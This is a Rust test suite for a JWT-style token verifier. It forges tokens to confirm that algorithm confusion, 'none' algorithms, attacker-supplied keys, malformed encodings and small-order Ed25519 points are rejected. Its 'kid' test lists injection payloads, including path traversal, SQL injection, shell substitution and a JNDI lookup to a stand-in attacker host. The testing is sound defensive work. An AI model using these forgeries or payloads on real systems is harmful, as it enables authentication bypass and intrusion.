//! Attempts to make a verifier use the wrong algorithm, key, kind of token or interpretation of the bytes.

use base64ct::{Base64, Base64UrlUnpadded, Encoding};
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::Sha256;
use throughline::keys::{Algorithm, Key, KeySet, Purpose, SignatureError};
use throughline::token::{
    Claims, PreviewClaims, PreviewScope, PreviewVerifier, Rejection, Segment, Verifier, jws, mint, mint_preview,
};

const ISS: &str = "https://collect.shop.example";
const AUD: &str = "shop.example";
const NOW: u64 = 1_700_000_000_000;

fn key(algorithm: Algorithm, purpose: Purpose, kid: &str) -> Key {
    let seed = [algorithm.name().len() as u8 + kid.len() as u8; 32];
    Key::from_seed(algorithm, purpose, Some(kid), &seed).unwrap()
}

/// Returns the edge's verifier: the public halves of an Ed25519 and a P-256 key, and an HS256 secret of its
/// own.
fn verifier() -> Verifier {
    let mut keys = KeySet::new(Purpose::Token);
    for algorithm in Algorithm::ALL {
        keys.push(key(algorithm, Purpose::Token, algorithm.name())).unwrap();
    }
    Verifier::new(keys, ISS, AUD).unwrap()
}

fn payload() -> Value {
    json!({ "iss": ISS, "aud": AUD, "sub": "p1", "iat": 1_700_000_000, "exp": 1_700_003_600, "ver": 1, "tl": {} })
}

fn header(algorithm: Algorithm) -> Value {
    json!({ "alg": algorithm.name(), "kid": algorithm.name(), "typ": "tl+jwt" })
}

fn encode(bytes: impl AsRef<[u8]>) -> String {
    Base64UrlUnpadded::encode_string(bytes.as_ref())
}

fn signing_input(header: &str, payload: &str) -> String {
    format!("{}.{}", encode(header), encode(payload))
}

/// Returns a token with exactly this header and payload, signed by `key` whatever the header says.
fn forge_text(key: &Key, header: &str, payload: &str) -> String {
    let input = signing_input(header, payload);
    let signature = encode(key.sign(input.as_bytes()).unwrap());
    format!("{input}.{signature}")
}

fn forge(key: &Key, header: &Value) -> String {
    forge_text(key, &header.to_string(), &payload().to_string())
}

fn good(algorithm: Algorithm) -> String {
    forge(&key(algorithm, Purpose::Token, algorithm.name()), &header(algorithm))
}

fn verdict(token: &str) -> Result<Claims<Value>, Rejection> {
    verifier().verify(token, NOW)
}

#[track_caller]
fn assert_rejected(token: &str, want: Rejection) {
    assert_eq!(verdict(token), Err(want), "{token}");
}

#[test]
fn the_control_group_is_accepted() {
    for algorithm in Algorithm::ALL {
        assert_eq!(verdict(&good(algorithm)).unwrap().sub, "p1", "{algorithm}");
    }
}

/// Returns everything that an attacker might pass to an HMAC as "the key" of a public key.
fn public_bytes(algorithm: Algorithm) -> Vec<Vec<u8>> {
    let key = key(algorithm, Purpose::Token, algorithm.name());
    let jwk = key.verify_key().public_jwk().unwrap();
    let members: Value = serde_json::from_str(&jwk).unwrap();
    let member = |name: &str| {
        let text = members[name].as_str().unwrap();
        Base64UrlUnpadded::decode_vec(text).unwrap()
    };
    let (raw, prefix) = match algorithm {
        Algorithm::EdDsa => (member("x"), "302a300506032b6570032100"),
        Algorithm::Es256 => {
            ([vec![4], member("x"), member("y")].concat(), "3059301306072a8648ce3d020106082a8648ce3d030107034200")
        }
        Algorithm::Hs256 => panic!("HS256 has no public half"),
    };
    let prefix = (0..prefix.len()).step_by(2).map(|at| u8::from_str_radix(&prefix[at..at + 2], 16).unwrap());
    let der: Vec<u8> = prefix.chain(raw.iter().copied()).collect();
    let lines: Vec<String> = Base64::encode_string(&der)
        .as_bytes()
        .chunks(64)
        .map(|line| String::from_utf8(line.to_vec()).unwrap())
        .collect();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", lines.join("\n"));
    let x = member("x");
    vec![
        raw,
        x.clone(),
        encode(x).into_bytes(),
        der,
        pem.clone().into_bytes(),
        format!("{pem}\n").into_bytes(),
        jwk.into_bytes(),
        json!({ "keys": [members] }).to_string().into_bytes(),
        Vec::new(),
    ]
}

#[test]
fn hs256_keyed_with_a_public_key_is_refused() {
    for algorithm in [Algorithm::EdDsa, Algorithm::Es256] {
        for secret in public_bytes(algorithm) {
            let forged = |header: Value| {
                let input = signing_input(&header.to_string(), &payload().to_string());
                let mac = Hmac::<Sha256>::new_from_slice(&secret).unwrap().chain_update(&input);
                format!("{input}.{}", encode(mac.finalize().into_bytes()))
            };
            let mut claimed = header(Algorithm::Hs256);
            claimed["kid"] = json!(algorithm.name());
            assert_rejected(&forged(claimed), Rejection::AlgorithmMismatch);
            assert_rejected(&forged(header(algorithm)), Rejection::SignatureLength);
            assert_rejected(&forged(header(Algorithm::Hs256)), Rejection::InvalidSignature);
        }
    }
}

#[test]
fn the_header_cannot_choose_the_algorithm() {
    for signs in Algorithm::ALL {
        let signer = key(signs, Purpose::Token, signs.name());
        for claims in Algorithm::ALL {
            for named in Algorithm::ALL {
                let mut header = header(claims);
                header["kid"] = json!(named.name());
                let token = forge(&signer, &header);
                let verdict = verdict(&token).map_err(|rejection| rejection.code());
                if claims != named {
                    assert_eq!(verdict, Err("alg_mismatch"), "{header}");
                } else if signs != named {
                    assert!(matches!(verdict, Err("invalid_signature" | "signature_length")), "{header} by {signs}");
                } else {
                    assert!(verdict.is_ok(), "{header}");
                }
            }
        }
    }
}

#[test]
fn unsigned_tokens_are_refused_in_every_casing() {
    let signature = encode([0; 64]);
    for bits in 0..16_u32 {
        let alg: String = "none"
            .chars()
            .enumerate()
            .map(|(at, c)| if bits >> at & 1 == 1 { c.to_ascii_uppercase() } else { c })
            .collect();
        let input =
            signing_input(&json!({ "alg": alg, "kid": "EdDSA", "typ": "tl+jwt" }).to_string(), &payload().to_string());
        assert_rejected(&format!("{input}."), Rejection::AlgorithmNone);
        assert_rejected(&format!("{input}.{signature}"), Rejection::AlgorithmNone);
    }
}

#[test]
fn names_that_only_resemble_an_algorithm_are_refused() {
    let signer = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
    for alg in [
        "",
        " ",
        "eddsa",
        "EDDSA",
        "EdDSA ",
        "EdDSA\0",
        "Ed25519",
        "EdDSА",
        "HS512",
        "RS256",
        "PS256",
        "ES384",
        "non\u{435}",
        "none ",
    ] {
        let token = forge(&signer, &json!({ "alg": alg, "kid": "EdDSA", "typ": "tl+jwt" }));
        assert_rejected(&token, Rejection::AlgorithmMismatch);
    }
    for alg in [json!(null), json!(0), json!(true), json!(["EdDSA"]), json!({ "EdDSA": 1 })] {
        let token = forge(&signer, &json!({ "alg": alg, "kid": "EdDSA", "typ": "tl+jwt" }));
        assert_rejected(&token, Rejection::MissingAlgorithm);
    }
    let token = forge(&signer, &json!({ "kid": "EdDSA", "typ": "tl+jwt" }));
    assert_rejected(&token, Rejection::MissingAlgorithm);
}

#[test]
fn an_empty_or_cut_signature_is_refused() {
    for algorithm in Algorithm::ALL {
        let token = good(algorithm);
        let (input, signature) = token.rsplit_once('.').unwrap();
        let signature = Base64UrlUnpadded::decode_vec(signature).unwrap();
        for length in 0..signature.len() {
            let token = format!("{input}.{}", encode(&signature[..length]));
            assert_rejected(&token, Rejection::SignatureLength);
        }
        let longer = [signature.as_slice(), &[0]].concat();
        assert_rejected(&format!("{input}.{}", encode(longer)), Rejection::SignatureLength);
        let zeros = vec![0; signature.len()];
        assert_rejected(&format!("{input}.{}", encode(zeros)), Rejection::InvalidSignature);
        let ones = vec![255; signature.len()];
        assert_rejected(&format!("{input}.{}", encode(ones)), Rejection::InvalidSignature);
    }
}

#[test]
fn kid_is_a_name_and_nothing_else() {
    let signer = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
    for kid in [
        "",
        " ",
        "EdDSA ",
        " EdDSA",
        "eddsa",
        "EdDSA\0",
        "EdDSA\n",
        "%45dDSA",
        "*",
        "0",
        "-1",
        "keys[0]",
        "../../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "..\\..\\windows\\win.ini",
        "' OR '1'='1",
        "x' UNION SELECT 'EdDSA' --",
        "EdDSA'; DROP TABLE keys; --",
        "$(id)",
        "`id`",
        "| id",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/jwks.json",
        "__proto__",
        "constructor",
        "null",
        "undefined",
        "ЕdDSA",
    ] {
        let token = forge(&signer, &json!({ "alg": "EdDSA", "kid": kid, "typ": "tl+jwt" }));
        assert_rejected(&token, Rejection::UnknownKeyId);
    }
    for kid in [json!(null), json!(0), json!(["EdDSA"]), json!({ "EdDSA": 1 }), json!(true)] {
        let token = forge(&signer, &json!({ "alg": "EdDSA", "kid": kid, "typ": "tl+jwt" }));
        assert_rejected(&token, Rejection::MissingKeyId);
    }
}

#[test]
fn kid_is_required_even_when_there_is_one_key() {
    let signer = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
    let token = forge(&signer, &json!({ "alg": "EdDSA", "typ": "tl+jwt" }));
    let mut keys = KeySet::new(Purpose::Token);
    keys.push(signer).unwrap();
    let verifier = Verifier::new(keys, ISS, AUD).unwrap();
    assert_eq!(verifier.verify::<Value>(&token, NOW), Err(Rejection::MissingKeyId));
}

#[test]
fn keys_that_a_token_brings_are_refused() {
    let attacker = key(Algorithm::EdDsa, Purpose::Token, "attacker");
    let jwk: Value = serde_json::from_str(&attacker.verify_key().public_jwk().unwrap()).unwrap();
    for (name, value) in [
        ("jwk", jwk),
        ("jku", json!("https://evil.example/jwks.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIB"])),
        ("jwk", json!(null)),
    ] {
        let mut header = header(Algorithm::EdDsa);
        header[name] = value;
        assert_rejected(&forge(&attacker, &header), Rejection::EmbeddedKey);

        // The lower layer ignores such a member: the given key decides.
        let token = forge(&attacker, &header);
        let ours = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
        assert_eq!(jws::verify_with(ours.verify_key(), &token), Err(Rejection::InvalidSignature));
        assert!(jws::verify_with(attacker.verify_key(), &token).is_ok());
    }
}

#[test]
fn extensions_are_refused() {
    let signer = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
    for crit in
        [json!(["b64"]), json!(["exp"]), json!([]), json!(null), json!("b64"), json!(["http://example.com/ext"])]
    {
        let mut header = header(Algorithm::EdDsa);
        header["crit"] = crit;
        assert_rejected(&forge(&signer, &header), Rejection::CriticalHeader);
    }
    for b64 in [json!(false), json!(null), json!(0), json!("true"), json!([])] {
        let mut header = header(Algorithm::EdDsa);
        header["b64"] = b64;
        assert_rejected(&forge(&signer, &header), Rejection::UnencodedPayload);
    }
}

#[test]
fn keys_for_one_purpose_are_not_accepted_for_another() {
    let jwks = json!({ "keys": Purpose::ALL.map(|purpose| {
        let jwk = key(Algorithm::EdDsa, purpose, purpose.name()).private_jwk();
        serde_json::from_str::<Value>(&jwk).unwrap()
    }) })
    .to_string();
    let keys = KeySet::parse(&jwks, Purpose::Token).unwrap();
    assert_eq!(keys.keys().map(|key| key.kid()).collect::<Vec<_>>(), ["token"]);

    let verifier = Verifier::new(keys, ISS, AUD).unwrap();
    for purpose in [Purpose::Plan, Purpose::Preview] {
        let signer = key(Algorithm::EdDsa, purpose, purpose.name());
        let token = forge(&signer, &json!({ "alg": "EdDSA", "kid": purpose.name(), "typ": "tl+jwt" }));
        assert_eq!(verifier.verify::<Value>(&token, NOW), Err(Rejection::UnknownKeyId));

        let claims = Claims { iss: ISS.into(), aud: AUD.into(), sub: "p".into(), iat: 0, exp: 1, ver: 0, facts: 1 };
        assert!(mint(&signer, &claims).is_err(), "a {purpose} key signs no profile token");
        let keys = KeySet::parse(&jwks, purpose).unwrap();
        assert!(Verifier::new(keys, ISS, AUD).is_err(), "{purpose} keys verify no profile token");
    }
}

#[test]
fn one_kind_of_token_does_not_pass_for_the_other() {
    // The worst case: both kinds signed with the same secret under the same `kid`.
    let profile_key = key(Algorithm::EdDsa, Purpose::Token, "same");
    let preview_key = key(Algorithm::EdDsa, Purpose::Preview, "same");
    let preview = mint_preview(
        &preview_key,
        &PreviewClaims {
            iss: ISS.into(),
            aud: AUD.into(),
            iat: 1_700_000_000,
            exp: 1_700_003_600,
            scope: vec![PreviewScope::Explain],
        },
    )
    .unwrap();
    let mut both = payload();
    both["scope"] = json!("explain preview");
    let profile = forge_text(
        &profile_key,
        &json!({ "alg": "EdDSA", "kid": "same", "typ": "tl+jwt" }).to_string(),
        &both.to_string(),
    );
    let mut keys = KeySet::new(Purpose::Token);
    keys.push(profile_key).unwrap();
    let profiles = Verifier::new(keys, ISS, AUD).unwrap();
    let mut keys = KeySet::new(Purpose::Preview);
    keys.push(preview_key).unwrap();
    let previews = PreviewVerifier::new(keys, ISS, AUD).unwrap();

    assert!(profiles.verify::<Value>(&profile, NOW).is_ok());
    assert!(previews.verify(&preview, NOW, PreviewScope::Explain).is_ok());
    assert_eq!(profiles.verify::<Value>(&preview, NOW), Err(Rejection::WrongType));
    assert_eq!(previews.verify(&profile, NOW, PreviewScope::Explain), Err(Rejection::WrongType));
}

#[test]
fn typ_is_exact() {
    let signer = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
    for typ in [
        json!("JWT"),
        json!("jwt"),
        json!("at+jwt"),
        json!("TL+JWT"),
        json!("application/tl+jwt"),
        json!("tl+jwt "),
        json!(""),
        json!(null),
        json!(["tl+jwt"]),
    ] {
        let mut header = header(Algorithm::EdDsa);
        header["typ"] = typ;
        assert_rejected(&forge(&signer, &header), Rejection::WrongType);
    }
    let token = forge(&signer, &json!({ "alg": "EdDSA", "kid": "EdDSA" }));
    assert_rejected(&token, Rejection::WrongType);
}

#[test]
fn duplicate_members_are_refused() {
    let signer = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
    let body = payload().to_string();
    for header in [
        r#"{"alg":"EdDSA","alg":"EdDSA","kid":"EdDSA","typ":"tl+jwt"}"#,
        r#"{"alg":"none","alg":"EdDSA","kid":"EdDSA","typ":"tl+jwt"}"#,
        r#"{"alg":"EdDSA","kid":"EdDSA","typ":"tl+jwt","\u0061lg":"none"}"#,
        r#"{"alg":"EdDSA","kid":"HS256","kid":"EdDSA","typ":"tl+jwt"}"#,
        r#"{"alg":"EdDSA","kid":"EdDSA","typ":"tl+jwt","x":{"y":1,"y":1}}"#,
    ] {
        assert_rejected(&forge_text(&signer, header, &body), Rejection::DuplicateMember(Segment::Header));
    }
    let header = header(Algorithm::EdDsa).to_string();
    for member in [
        r#""sub":"p2""#,
        r#""\u0073ub":"p2""#,
        r#""exp":9999999999"#,
        r#""aud":"x""#,
        r#""x":1,"x":1"#,
        r#""x":[{"y":1,"y":1}]"#,
    ] {
        let body = format!("{{{member},{}", &body[1..]);
        assert_rejected(&forge_text(&signer, &header, &body), Rejection::DuplicateMember(Segment::Payload));
    }
}

#[test]
fn only_sound_json_objects_are_read() {
    let signer = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
    let (head, body) = (header(Algorithm::EdDsa).to_string(), payload().to_string());
    for (text, want) in [
        ("", "invalid_json"),
        ("{", "invalid_json"),
        ("null", "not_an_object"),
        ("[]", "not_an_object"),
        ("\"EdDSA\"", "not_an_object"),
        ("\u{feff}{}", "invalid_json"),
        ("{'alg':'EdDSA'}", "invalid_json"),
        ("{}{}", "invalid_json"),
    ] {
        let as_header = verdict(&forge_text(&signer, text, &body)).unwrap_err();
        assert_eq!(as_header.code(), want, "header {text:?}");
        let as_payload = verdict(&forge_text(&signer, &head, text)).unwrap_err();
        assert_eq!(as_payload.code(), want, "payload {text:?}");
    }
    let deep = format!("{{\"x\":{}{}}}", "[".repeat(400), "]".repeat(400));
    assert_rejected(&forge_text(&signer, &deep, &body), Rejection::TooDeep(Segment::Header));
    assert_rejected(&forge_text(&signer, &head, &deep), Rejection::TooDeep(Segment::Payload));
}

#[test]
fn the_form_is_exact() {
    let token = good(Algorithm::EdDsa);
    let [header, payload, signature] = token.split('.').collect::<Vec<_>>()[..] else { panic!() };
    for (token, found) in [
        (String::new(), 1),
        (header.to_owned(), 1),
        (format!("{header}.{payload}"), 2),
        (format!("{token}."), 4),
        (format!(".{token}"), 4),
        (format!("{token}.{signature}"), 4),
        (format!("{header}..{payload}.{signature}"), 4),
        (format!("{token}.a.b"), 5),
    ] {
        assert_rejected(&token, Rejection::SegmentCount { found });
    }
    for (token, segment) in [
        (format!(" {token}"), Segment::Header),
        (format!("{token}\n"), Segment::Signature),
        (format!("{token}="), Segment::Signature),
        (format!("{header}=.{payload}.{signature}"), Segment::Header),
        (format!("{header}.{payload}=.{signature}"), Segment::Payload),
        (format!("{header}.{payload} .{signature}"), Segment::Payload),
        (format!("{header}.{payload}\0.{signature}"), Segment::Payload),
        (format!("{header}.{payload}é.{signature}"), Segment::Payload),
        (format!("{header}.{payload}.Ａ{signature}"), Segment::Signature),
        (format!("{header}.{payload}.{}+/", &signature[2..]), Segment::Signature),
        (format!("\u{200b}{token}"), Segment::Header),
        (
            json!({ "protected": header, "payload": payload, "signature": signature }).to_string() + "..",
            Segment::Header,
        ),
    ] {
        assert_rejected(&token, Rejection::Base64(segment));
    }
    // Without a payload the signature covers other bytes; without a header there is none to read.
    assert_rejected(&format!("{header}..{signature}"), Rejection::InvalidSignature);
    assert_rejected(&format!(".{payload}.{signature}"), Rejection::Json(Segment::Header));
}

#[test]
fn stray_bits_in_the_last_character_are_refused() {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    // 64 bytes leave four bits unused in the last of 86 characters: 16 spellings of one signature.
    let token = good(Algorithm::EdDsa);
    let (rest, last) = token.split_at(token.len() - 1);
    let first = ALPHABET.find(last).unwrap() & !15;
    for spelling in &ALPHABET[first..first + 16].chars().collect::<Vec<_>>() {
        let token = format!("{rest}{spelling}");
        if spelling.to_string() == last {
            assert!(verdict(&token).is_ok());
        } else {
            assert_rejected(&token, Rejection::Base64(Segment::Signature));
        }
    }
}

#[test]
fn size_is_checked_before_anything_else() {
    let signer = key(Algorithm::EdDsa, Purpose::Token, "EdDSA");
    let mut header = header(Algorithm::EdDsa);
    header["x"] = json!("x".repeat(10_000));
    let token = forge(&signer, &header);
    assert_rejected(&token, Rejection::TooLarge { length: token.len(), limit: 3_072 });

    let huge = ".".repeat(5_000_000);
    assert_rejected(&huge, Rejection::TooLarge { length: 5_000_000, limit: 3_072 });

    let token = good(Algorithm::EdDsa);
    let exact = verifier().max_bytes(token.len());
    assert!(exact.verify::<Value>(&token, NOW).is_ok());
    let tight = verifier().max_bytes(token.len() - 1);
    assert_eq!(tight.verify::<Value>(&token, NOW).unwrap_err().code(), "too_large");
}

#[test]
fn a_small_order_key_is_no_key() {
    // The identity, the other points of order 2 and 4, and y = 1 in an encoding that is not canonical.
    let mut points = vec![[0_u8; 32], [0; 32], [0; 32], [255; 32]];
    points[0][0] = 1;
    points[2][31] = 128;
    points[3][0] = 238;
    points[3][31] = 127;
    for point in points {
        let jwks =
            json!({ "keys": [{ "kty": "OKP", "crv": "Ed25519", "kid": "k", "tl": "token", "x": encode(point) }] });
        let keys = KeySet::parse(&jwks.to_string(), Purpose::Token).unwrap();
        assert!(keys.is_empty(), "{point:?}");
        assert_eq!(keys.skipped().len(), 1);
    }
}

#[test]
fn a_signature_with_a_small_order_point_is_refused() {
    // Made with the secret of RFC 8037 appendix A: `R` is the identity and `S` the product of challenge and secret,
    // which satisfies the plain verification equation. Such signatures let one signer claim two messages.
    let jwks = json!({ "keys": [{
        "kty": "OKP", "crv": "Ed25519", "kid": "k", "tl": "token", "x": "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo",
    }] });
    let keys = KeySet::parse(&jwks.to_string(), Purpose::Token).unwrap();
    let signature = "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAjkhW9NMPqqFLJdnBOZXEaT01Kknc2N5wPZpbPA9VqDA";
    let signature = Base64UrlUnpadded::decode_vec(signature).unwrap();
    let verdict = keys.find("k").unwrap().verify(b"Example of Ed25519 signing", &signature);
    assert_eq!(verdict, Err(SignatureError::Invalid));
}
